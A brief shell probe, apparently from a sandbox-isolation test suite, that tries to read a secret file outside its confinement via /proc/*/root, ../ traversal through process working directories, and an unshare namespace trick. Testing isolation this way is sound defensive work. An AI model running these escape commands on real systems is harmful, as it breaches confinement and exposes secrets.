# Category: mounts and namespaces
# Escape: reads a file outside through the root or the working directory of a process there.
# Sign: secret
cat /proc/[0-9]*/root"$FILE" /proc/[0-9]*/cwd/../../../../../.."$FILE" 2>/dev/null
unshare -Urmpf --mount-proc cat /proc/1/root"$FILE" 2>/dev/null
true
